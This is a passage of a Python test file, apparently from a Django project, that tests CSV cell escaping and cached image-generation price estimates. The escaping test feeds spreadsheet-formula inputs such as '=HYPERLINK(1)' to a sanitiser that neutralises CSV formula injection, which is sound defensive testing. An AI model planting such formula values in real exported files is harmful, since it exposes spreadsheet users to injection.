    total = next(row for row in rows if row[0] == "total")
    assert Decimal(total[2]) > 0


def test_csv_cell_leaves_safe_values_alone():
    from workspace.views.spend import csv_cell

    assert csv_cell("Spring campaign") == "Spring campaign"
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert csv_cell("") == ""
    assert csv_cell("=1") == "'=1"
    assert csv_cell("  =HYPERLINK(1)") == "'  =HYPERLINK(1)"
    assert csv_cell("a = b") == "a = b"


def test_estimates_read_the_prices_once_and_follow_a_price_saved_here_at_once(django_assert_num_queries):
    def high_square() -> Decimal:
        return spend.estimate(
            model="gpt-image-2", quality="high", size="1024x1024", n=1, prompt="a lemon"
        ).cost

    before = high_square()
    with django_assert_num_queries(0):  # the prices in force are this process's copy until one changes
        assert high_square() == before
        assert spend.unpriced_models() == set()
    price = spend.price_for("gpt-image-2")
    price.image_output *= 2  # an admin doubles the output rate
    price.save()
    assert high_square() == spend.money(before + Decimal(7024) * (price.image_output / 2) / spend.MILLION)
    deleted = price.pk
    price.delete()
    quoted, in_table = spend.quoted_price("gpt-image-2"), spend.price_for("gpt-image-2")
    assert getattr(quoted, "pk", None) == getattr(in_table, "pk", None) != deleted
